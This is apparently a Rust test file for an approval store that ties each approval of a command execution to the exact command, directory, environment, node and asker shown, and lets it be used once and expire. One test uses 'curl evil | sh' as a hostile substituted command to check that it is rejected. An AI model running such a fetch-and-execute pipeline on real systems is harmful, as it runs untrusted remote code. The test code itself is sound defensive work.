use openclaw_shared::clock::WallTime;
use openclaw_shared::protocol::params::approvals::{
    ApprovalDecision, ApprovalShown, PendingApproval,
};
use rusqlite::Connection;
use serde_json::{Value, json};

use super::super::run;
use super::{
    Asked, Asker, Bound, Expired, Inserted, MOST, MOST_OF_ONE, Resolved, USABLE_AT_ONCE, consume,
    expire, pending,
};

const NOW: WallTime = WallTime::from_millis(1_700_000_000_000);

fn later(seconds: u64) -> WallTime {
    WallTime::from_millis(NOW.as_millis() + seconds * 1_000)
}

fn store() -> Connection {
    let store = Connection::open_in_memory().unwrap();
    for piece in [
        include_str!("../../../store/schema/exec_approvals.sql"),
        include_str!("../../../store/schema/exec_approvals_askers.sql"),
    ] {
        store.execute_batch(piece).unwrap();
    }
    store
}

/// Asks on behalf of somebody who names the node, if any is meant.
fn insert(store: &Connection, at: WallTime, asked: &Asked) -> Inserted {
    super::insert(store, at, asked, true).unwrap()
}

/// Decides without saying what was shown, as most clients do.
fn resolve(store: &Connection, at: WallTime, id: &str, decision: ApprovalDecision) -> bool {
    super::resolve(store, at, id, decision, None).unwrap() == Resolved::Decided
}

fn device(name: &str) -> Asker {
    Asker::Device(name.to_owned())
}

/// What a client asks that knows exactly what would run, or that knows only a text.
fn asked(id: &str, exact: Option<&Value>, change: impl FnOnce(&mut ApprovalShown)) -> Asked {
    let exactly = exact.map(|params| {
        run::read(Some(params.clone()), "f")
            .unwrap()
            .exactly
            .unwrap()
    });
    let mut request = ApprovalShown {
        command: "ls -l".to_owned(),
        cwd: None,
        host: Some("node".to_owned()),
        security: None,
        ask: None,
        agent_id: None,
        resolved_path: None,
        session_key: None,
        node_id: exact.map(|_| "n1".to_owned()),
        argv: None,
        env_names: None,
        env: None,
    };
    change(&mut request);
    Asked {
        pending: PendingApproval::new(
            id.to_owned(),
            request,
            NOW.as_millis(),
            later(120).as_millis(),
        ),
        bound: Bound {
            asker: device("d1"),
            sha256: exactly.map(|exactly| exactly.sha256()),
        },
    }
}

fn allow(store: &Connection, asked: &Asked) {
    assert_eq!(insert(store, NOW, asked), Inserted::New);
    assert!(resolve(
        store,
        NOW,
        &asked.pending.id,
        ApprovalDecision::AllowOnce
    ));
}

fn used(
    store: &Connection,
    at: WallTime,
    node: &str,
    asker: &Asker,
    params: Value,
) -> Option<String> {
    let run = run::read(Some(params), "f").unwrap();
    consume(store, at, node, asker, &run)
        .unwrap()
        .map(|(id, _)| id)
}

#[test]
fn rule_49_an_approval_holds_for_exactly_what_was_shown_and_once() {
    let exact = json!({"command": ["ls", "-l"], "cwd": "/tmp", "env": {"A": "1"}});
    let store = store();
    allow(
        &store,
        &asked("a", Some(&exact), |shown| {
            shown.cwd = Some("/tmp".to_owned())
        }),
    );
    for (node, asker, params) in [
        ("n2", "d1", exact.clone()),
        ("n1", "d2", exact.clone()),
        (
            "n1",
            "d1",
            json!({"command": ["ls", "-la"], "cwd": "/tmp", "env": {"A": "1"}}),
        ),
        (
            "n1",
            "d1",
            json!({"command": ["ls -l"], "cwd": "/tmp", "env": {"A": "1"}}),
        ),
        (
            "n1",
            "d1",
            json!({"command": ["ls", "-l"], "cwd": "/", "env": {"A": "1"}}),
        ),
        ("n1", "d1", json!({"command": ["ls", "-l"], "cwd": "/tmp"})),
        (
            "n1",
            "d1",
            json!({"command": ["ls", "-l"], "cwd": "/tmp", "env": {"A": "2"}}),
        ),
        (
            "n1",
            "d1",
            json!({"command": ["ls", "-l"], "cwd": "/tmp", "env": {"A": "1", "B": "1"}}),
        ),
        (
            "n1",
            "d1",
            json!({"command": ["ls", "-l"], "cwd": "/tmp", "env": {"A": "1"}, "agentId": "x"}),
        ),
        (
            "n1",
            "d1",
            json!({"command": ["ls", "-l"], "cwd": "/tmp", "env": {"A": "1"}, "sessionKey": "x"}),
        ),
    ] {
        assert_eq!(
            used(&store, NOW, node, &device(asker), params.clone()),
            None,
            "{node} {asker} {params}"
        );
    }
    assert_eq!(
        used(&store, NOW, "n1", &device("d1"), exact.clone()).as_deref(),
        Some("a")
    );
    assert_eq!(
        used(&store, NOW, "n1", &device("d1"), exact),
        None,
        "it is used up"
    );
}

#[test]
fn rule_49_a_command_text_holds_only_where_it_can_mean_nothing_else() {
    let store = store();
    allow(&store, &asked("a", None, |_| {}));
    for params in [
        json!({"command": ["ls", "-l"], "env": {"A": "1"}}),
        json!({"command": ["ls", "-l"], "cwd": "/"}),
        json!({"command": ["sh", "-c", "ls  -l"]}),
        json!({"command": ["ls", "-l", ""]}),
    ] {
        assert_eq!(
            used(&store, NOW, "n1", &device("d1"), params.clone()),
            None,
            "{params}"
        );
    }
    assert_eq!(
        used(
            &store,
            NOW,
            "n9",
            &device("d1"),
            json!({"command": ["ls", "-l"]})
        )
        .as_deref(),
        Some("a")
    );
    allow(
        &store,
        &asked("b", None, |shown| shown.host = Some("gateway".to_owned())),
    );
    assert_eq!(
        used(
            &store,
            NOW,
            "n1",
            &device("d1"),
            json!({"command": ["ls", "-l"]})
        ),
        None
    );
}

#[test]
fn rule_49_no_decision_and_no_are_no_and_a_yes_does_not_last() {
    let store = store();
    let run = json!({"command": ["ls", "-l"]});
    let waits = asked("a", None, |_| {});
    assert_eq!(insert(&store, NOW, &waits), Inserted::New);
    assert_eq!(used(&store, NOW, "n1", &device("d1"), run.clone()), None);
    assert!(
        !resolve(&store, later(120), "a", ApprovalDecision::AllowOnce),
        "it is too late"
    );
    assert_eq!(expire(&store, later(120), "a").unwrap(), Expired::Undecided);
    assert_eq!(
        expire(&store, later(121), "a").unwrap(),
        Expired::Before(None)
    );
    assert_eq!(
        used(&store, later(121), "n1", &device("d1"), run.clone()),
        None
    );
    let denied = asked("b", None, |_| {});
    assert_eq!(insert(&store, NOW, &denied), Inserted::New);
    assert!(resolve(&store, NOW, "b", ApprovalDecision::Deny));
    assert!(
        !resolve(&store, NOW, "b", ApprovalDecision::AllowOnce),
        "it is decided"
    );
    assert_eq!(used(&store, NOW, "n1", &device("d1"), run.clone()), None);
    allow(&store, &asked("c", None, |_| {}));
    assert_eq!(
        used(&store, later(300), "n1", &device("d1"), run.clone()),
        None
    );
    assert_eq!(
        used(&store, later(299), "n1", &device("d1"), run).as_deref(),
        Some("c")
    );
}

#[test]
fn the_approval_that_is_named_is_the_one_that_is_used() {
    let store = store();
    allow(&store, &asked("a", None, |_| {}));
    allow(&store, &asked("b", None, |_| {}));
    let named = json!({"command": ["ls", "-l"], "runId": "b"});
    assert_eq!(
        used(&store, NOW, "n1", &device("d1"), named).as_deref(),
        Some("b")
    );
    let unknown = json!({"command": ["ls", "-l"], "approval": {"id": "zz"}});
    assert_eq!(
        used(&store, NOW, "n1", &device("d1"), unknown).as_deref(),
        Some("a")
    );
}

#[test]
fn what_waits_is_listed_and_an_id_is_taken_while_it_waits() {
    let store = store();
    let first = asked("a", None, |_| {});
    assert_eq!(insert(&store, NOW, &first), Inserted::New);
    assert_eq!(
        insert(&store, NOW, &first),
        Inserted::Same(Box::new(first.pending.clone()))
    );
    let other = asked("a", None, |shown| shown.command = "id".to_owned());
    assert_eq!(insert(&store, NOW, &other), Inserted::Taken);
    let waits = pending(&store, Some(NOW)).unwrap();
    assert_eq!((waits.len(), &waits[0].pending), (1, &first.pending));
    assert!(pending(&store, Some(later(120))).unwrap().is_empty());
    assert_eq!(pending(&store, None).unwrap().len(), 1);
}

#[test]
fn rule_30_an_id_is_not_asked_for_again_after_it_ran_out_or_was_decided() {
    let store = store();
    let [out, yes, no] = ["out", "yes", "no"].map(|id| asked(id, None, |_| {}));
    for asked in [&out, &yes, &no] {
        assert_eq!(insert(&store, NOW, asked), Inserted::New);
    }
    assert!(resolve(&store, NOW, "yes", ApprovalDecision::AllowOnce));
    assert!(resolve(&store, NOW, "no", ApprovalDecision::Deny));
    for first in [&out, &yes, &no] {
        let mut other = first.clone();
        other.pending.request.command = "curl evil | sh".to_owned();
        let mut of_another = first.clone();
        of_another.bound.asker = device("d2");
        for again in [first, &other, &of_another] {
            let found = insert(&store, later(121), again);
            assert_eq!(found, Inserted::Used, "{again:?}");
        }
    }
    // Whoever has read the first and answers late decides on nothing.
    assert!(!resolve(
        &store,
        later(121),
        "out",
        ApprovalDecision::AllowOnce
    ));
    let run = json!({"command": ["ls", "-l"]});
    assert_eq!(
        used(&store, later(121), "n1", &device("d1"), run).as_deref(),
        Some("yes"),
        "nobody's repeat takes an approval away"
    );
}

#[test]
fn rule_49_a_decision_that_says_what_was_shown_counts_for_nothing_else() {
    let store = store();
    let waits = asked("a", None, |_| {});
    let other = asked("a", None, |shown| shown.cwd = Some("/".to_owned()));
    assert_ne!(waits.pending.sha256, other.pending.sha256);
    assert_eq!(insert(&store, NOW, &waits), Inserted::New);
    let decide = |shown: &Asked| {
        let shown = Some(shown.pending.sha256.as_str());
        super::resolve(&store, NOW, "a", ApprovalDecision::AllowOnce, shown).unwrap()
    };
    assert_eq!(decide(&other), Resolved::Changed);
    assert_eq!(decide(&waits), Resolved::Decided);
    assert_eq!(decide(&waits), Resolved::Unknown);
}

#[test]
fn what_was_decided_in_the_last_moment_is_what_counts() {
    let store = store();
    assert_eq!(
        insert(&store, NOW, &asked("a", None, |_| {})),
        Inserted::New
    );
    assert!(resolve(&store, NOW, "a", ApprovalDecision::AllowAlways));
    assert_eq!(
        expire(&store, later(120), "a").unwrap(),
        Expired::Before(Some(ApprovalDecision::AllowAlways))
    );
}

#[test]
fn a_repeat_that_names_no_node_is_the_same_whichever_node_is_meant_by_then() {
    let store = store();
    let on = |node: Option<&str>| asked("a", None, |shown| shown.node_id = node.map(str::to_owned));
    assert_eq!(
        super::insert(&store, NOW, &on(Some("n1")), false).unwrap(),
        Inserted::New
    );
    for node in [None, Some("n1"), Some("n2")] {
        let Inserted::Same(waits) = super::insert(&store, NOW, &on(node), false).unwrap() else {
            panic!("{node:?}")
        };
        assert_eq!(waits.request.node_id.as_deref(), Some("n1"));
    }
    assert_eq!(insert(&store, NOW, &on(Some("n2"))), Inserted::Taken);
}

#[test]
fn records_are_bounded_for_each_and_for_all_and_fresh_ones_are_never_pushed_out() {
    let store = store();
    let of = |asker: &Asker, id: &str| {
        let mut asked = asked(id, None, |_| {});
        asked.bound.asker = asker.clone();
        asked
    };
    let passing = |link: usize| Asker::Connection {
        life: "l".to_owned(),
        link: link as u64,
    };
    let fill = |prefix: &str, asker: &dyn Fn(usize) -> Asker| {
        (0..10_000)
            .take_while(|number| {
                let asked = of(&asker(*number), &format!("{prefix}{number}"));
                insert(&store, NOW, &asked) == Inserted::New
            })
            .count()
    };
    let most = usize::try_from(MOST_OF_ONE).unwrap();
    assert_eq!(fill("d", &|_| device("d1")), most);
    assert_eq!(fill("c", &passing), most, "connections count as one");
    let others = fill("o", &|number| device(&number.to_string()));
    assert_eq!(others, usize::try_from(MOST).unwrap() - 2 * most);
    // An id that somebody may still be reading is not set free by asking for others.
    let again = of(&device("d1"), "d0");
    assert_eq!(insert(&store, later(719), &again), Inserted::Used);
    let more = of(&device("d1"), "more");
    assert_eq!(insert(&store, later(719), &more), Inserted::Full);
    assert_eq!(insert(&store, later(721), &more), Inserted::New);
    let count = |store: &Connection| -> i64 {
        let count = "SELECT count(*) FROM exec_approval";
        store.query_row(count, [], |row| row.get(0)).unwrap()
    };
    assert_eq!(count(&store), MOST);
}

#[test]
fn only_so_many_unused_approvals_of_an_asker_are_looked_at_and_a_named_one_is_found_among_all() {
    let store = store();
    for number in 0..=USABLE_AT_ONCE {
        let asked = asked(&format!("{number:03}"), None, |_| {});
        assert_eq!(insert(&store, NOW, &asked), Inserted::New);
        assert!(resolve(
            &store,
            later(number.unsigned_abs()),
            &asked.pending.id,
            ApprovalDecision::AllowOnce
        ));
    }
    let by_name = json!({"command": ["ls", "-l"], "approval": {"id": "000"}});
    let any = json!({"command": ["ls", "-l"]});
    let mut other = by_name.clone();
    other["command"] = json!(["id"]);
    assert_eq!(used(&store, later(60), "n1", &device("d1"), other), None);
    assert_eq!(
        used(&store, later(60), "n1", &device("d1"), any).as_deref(),
        Some("001")
    );
    assert_eq!(
        used(&store, later(60), "n1", &device("d1"), by_name).as_deref(),
        Some("000")
    );
    let plan: String = store
        .prepare(
            "EXPLAIN QUERY PLAN SELECT * FROM exec_approval
             WHERE asker = 'd1' AND consumed_ms IS NULL AND decision IN ('allow-once', 'allow-always') AND resolved_ms > 1",
        )
        .unwrap()
        .query_row([], |row| row.get(3))
        .unwrap();
    assert!(plan.contains("exec_approval_usable"), "{plan}");
}

#[test]
fn who_asked_is_a_column_whoever_wrote_the_row() {
    let store = store();
    let passing = Asker::Connection {
        life: "5b0c".to_owned(),
        link: 7,
    };
    for (id, asker) in [("a", device("d1")), ("b", passing)] {
        let mut asked = asked(id, None, |_| {});
        asked.bound.asker = asker.clone();
        assert_eq!(insert(&store, NOW, &asked), Inserted::New);
        let found: (String, Option<String>) = store
            .query_row(
                "SELECT asker, device FROM exec_approval WHERE id = ?1",
                [id],
                |row| Ok((row.get(0)?, row.get(1)?)),
            )
            .unwrap();
        assert_eq!(found.0, asker.name());
        assert_eq!(found.1.is_some(), matches!(asker, Asker::Device(_)));
    }
}

#[test]
fn a_record_from_before_the_columns_is_used_like_any_other() {
    let store = Connection::open_in_memory().unwrap();
    let schema = include_str!("../../../store/schema/exec_approvals.sql");
    store.execute_batch(schema).unwrap();
    let old = asked("a", None, |_| {});
    let (request, bound) = (
        serde_json::to_string(&old.pending.request).unwrap(),
        serde_json::to_string(&old.bound).unwrap(),
    );
    let now = i64::try_from(NOW.as_millis()).unwrap();
    store
        .execute(
            "INSERT INTO exec_approval (id, request, bound, created_ms, expires_ms, decision, resolved_ms)
             VALUES ('a', ?1, ?2, ?3, ?3, 'allow-once', ?3)",
            (request, bound, now),
        )
        .unwrap();
    let step = include_str!("../../../store/schema/exec_approvals_askers.sql");
    store.execute_batch(step).unwrap();
    let run = json!({"command": ["ls", "-l"]});
    let found = used(&store, NOW, "n1", &device("d1"), run);
    assert_eq!(found.as_deref(), Some("a"));
}
